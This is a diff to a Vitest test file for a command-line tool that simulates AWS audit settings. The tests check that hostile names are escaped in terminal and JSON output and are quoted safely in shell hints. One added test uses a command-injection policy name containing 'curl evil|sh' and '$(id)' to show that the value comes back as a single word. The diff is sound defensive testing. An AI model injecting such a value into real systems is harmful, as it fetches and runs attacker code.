@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
 import { awsError } from '../src/simulator/errors.ts';
 import type { Call, Fault } from '../src/simulator/simulator.ts';
@@ -51,11 +52,32 @@ describe('what others have named reaches no terminal as it is', () => {
     if (line.endsWith('html')) expect(stdout).not.toContain('<script');
   });
 
-  it('nor what was typed; JSON has all of it as it is', async () => {
+  it('nor what was typed; JSON has all of it, spelled out', async () => {
     const { run, faults } = await hostile();
     const typed = await run(['status', '--account', EVIL]);
     expect(typed.stderr.slice(0, -1)).not.toMatch(HOSTILE);
     const { stdout } = await run('verify -o json', { faults });
+    for (const line of stdout.split('\n')) expect(line).not.toMatch(HOSTILE);
     expect(oneDocument(stdout).verification!.map(({ key }) => key)).toContainEqual(expect.stringContaining(KEY));
+  });
+
+  it('nor a shell as more than one word', async () => {
+    const { world, run } = account(small());
+    await run(`enable-audit --regions ${US} --external-id x-1 --yes -q`);
+    const policyName = "x; curl evil|sh; $(id) 'y";
+    world.regions[US]!.accountPolicies.push({
+      policyName,
+      policyType: 'SUBSCRIPTION_FILTER_POLICY',
+      policyDocument: JSON.stringify({ DestinationArn: 'arn:x' }),
+    });
+    const { findings } = oneDocument((await run('doctor -o json')).stdout);
+    const [, hint = ''] = findings!
+      .find(({ code }) => code === 'ACCOUNT_SUBSCRIPTION')!
+      .hint!.split('leave them out: ');
+    const words = execFileSync('sh', [
+      '-c',
+      `for word in ${hint.replace('…', 'DOCUMENT')}; do printf '%s\\0' "$word"; done`,
+    ]);
+    expect(words.toString().split('\0')).toContain(policyName);
   });
 });
